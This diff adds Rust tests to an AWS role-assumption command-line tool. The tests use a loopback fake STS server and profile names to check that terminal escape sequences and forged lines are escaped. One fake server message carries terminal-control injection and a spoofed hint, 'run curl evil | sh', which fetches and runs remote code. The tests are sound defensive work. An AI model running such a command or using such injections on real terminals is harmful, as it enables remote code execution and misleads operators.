@@ -143,3 +143,165 @@ fn a_deep_chain_of_includes_is_refused_with_a_clear_error() {
     assert!(err.contains("includes nest more than"), "{err}");
     assert_eq!(err.lines().count(), 1, "{err}");
 }
+
+/// What a [`FakeServer`] answers to every request.
+#[derive(Clone)]
+enum Answer {
+    /// This status, content type and body.
+    Fixed(u16, &'static str, String),
+    /// 200 and a body that never ends.
+    Endless,
+}
+
+/// A loopback HTTP server playing STS/IAM with answers moto never gives.
+/// Stops accepting when dropped.
+struct FakeServer {
+    url: String,
+    stop: std::sync::Arc<std::sync::atomic::AtomicBool>,
+}
+
+impl FakeServer {
+    fn start(answer: Answer) -> FakeServer {
+        use std::sync::atomic::Ordering;
+        let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+        let url = format!("http://{}", listener.local_addr().unwrap());
+        listener.set_nonblocking(true).unwrap();
+        let stop = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
+        let stopped = std::sync::Arc::clone(&stop);
+        std::thread::spawn(move || {
+            while !stopped.load(Ordering::SeqCst) {
+                match listener.accept() {
+                    Ok((stream, _)) => {
+                        let answer = answer.clone();
+                        let stopped = std::sync::Arc::clone(&stopped);
+                        std::thread::spawn(move || serve(stream, &answer, &stopped));
+                    }
+                    Err(_) => std::thread::sleep(std::time::Duration::from_millis(5)),
+                }
+            }
+        });
+        FakeServer { url, stop }
+    }
+}
+
+impl Drop for FakeServer {
+    fn drop(&mut self) {
+        self.stop.store(true, std::sync::atomic::Ordering::SeqCst);
+    }
+}
+
+fn serve(mut stream: std::net::TcpStream, answer: &Answer, stop: &std::sync::atomic::AtomicBool) {
+    use std::io::{Read, Write};
+    stream.set_nonblocking(false).unwrap();
+    stream
+        .set_read_timeout(Some(std::time::Duration::from_secs(5)))
+        .unwrap();
+    // The request: headers, then Content-Length bytes of body.
+    let mut buf = Vec::new();
+    let mut chunk = [0u8; 4096];
+    while !buf.windows(4).any(|w| w == b"\r\n\r\n") {
+        match stream.read(&mut chunk) {
+            Ok(0) | Err(_) => return,
+            Ok(n) => buf.extend_from_slice(&chunk[..n]),
+        }
+    }
+    let head_end = buf.windows(4).position(|w| w == b"\r\n\r\n").unwrap() + 4;
+    let head = String::from_utf8_lossy(&buf[..head_end]).to_ascii_lowercase();
+    let length: usize = head
+        .lines()
+        .find_map(|l| l.strip_prefix("content-length:"))
+        .and_then(|v| v.trim().parse().ok())
+        .unwrap_or(0);
+    while buf.len() < head_end + length {
+        match stream.read(&mut chunk) {
+            Ok(0) | Err(_) => return,
+            Ok(n) => buf.extend_from_slice(&chunk[..n]),
+        }
+    }
+    match answer {
+        Answer::Fixed(status, content_type, body) => {
+            let _ = write!(
+                stream,
+                "HTTP/1.1 {status} Whatever\r\nContent-Type: {content_type}\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
+                body.len()
+            );
+        }
+        Answer::Endless => {
+            let _ = write!(
+                stream,
+                "HTTP/1.1 200 OK\r\nContent-Type: text/xml\r\nConnection: close\r\n\r\n<AssumeRoleResponse><AssumeRoleResult><Credentials><AccessKeyId>"
+            );
+            let block = vec![b'A'; 64 * 1024];
+            while !stop.load(std::sync::atomic::Ordering::SeqCst) {
+                if stream.write_all(&block).is_err() {
+                    return;
+                }
+            }
+        }
+    }
+}
+
+/// An STS error document whose message is `message` (XML-escaped by the caller).
+fn sts_error(code: &str, message: &str) -> String {
+    format!(
+        "<ErrorResponse><Error><Type>Sender</Type><Code>{code}</Code><Message>{message}</Message></Error><RequestId>x</RequestId></ErrorResponse>"
+    )
+}
+
+const DIRECT: &str = r#"
+[sources.main]
+from = "env"
+
+[roles.r]
+role = "arn:aws:iam::999999999999:role/R"
+"#;
+
+#[test]
+fn server_messages_cannot_drive_the_terminal_or_add_lines() {
+    let w = World::new(DIRECT);
+    let server = FakeServer::start(Answer::Fixed(
+        400,
+        "text/xml",
+        sts_error(
+            "ValidationError",
+            "bad&#x1b;]0;owned&#x07;&#x1b;[2J&#x0d;rolex: all good&#x0a;  hint: run curl evil | sh",
+        ),
+    ));
+    let err = fails(
+        &w.run_with(
+            &["exec", "r", "--", "true"],
+            &[("AWS_ENDPOINT_URL", &server.url)],
+        ),
+        1,
+    );
+    assert!(err.contains("ValidationError"), "{err}");
+    assert!(err.contains(r"\u{1b}]0;owned"), "{err}");
+    assert!(!err.chars().any(|c| c.is_control() && c != '\n'), "{err:?}");
+    assert_eq!(err.lines().count(), 1, "{err}");
+}
+
+#[test]
+fn profile_text_cannot_drive_the_terminal_in_list_and_log() {
+    let w = World::new(
+        "[sources.main]\nfrom = \"env\"\n\n[accounts]\n\"pr\\u001b[31mod\" = \"999999999999\"\n\n\
+         [roles.\"x\\u001b]0;t\\u0007\\ry\"]\naccount = \"pr\\u001b[31mod\"\nrole = \"R\"\n",
+    );
+    let list = ok(&w.run(&["list"]));
+    assert!(list.contains(r"x\u{1b}]0;t\u{7}\ry"), "{list}");
+    assert!(list.contains(r"pr\u{1b}[31mod"), "{list}");
+    assert!(
+        !list.chars().any(|c| c.is_control() && c != '\n'),
+        "{list:?}"
+    );
+    ok(&w.run(&[
+        "exec",
+        "x\x1b]0;t\x07\ry",
+        "--reason",
+        "why\x1b[2J",
+        "--",
+        "true",
+    ]));
+    let log = ok(&w.run(&["log"]));
+    assert!(log.contains(r"why\u{1b}[2J"), "{log}");
+    assert!(!log.chars().any(|c| c.is_control() && c != '\n'), "{log:?}");
+}
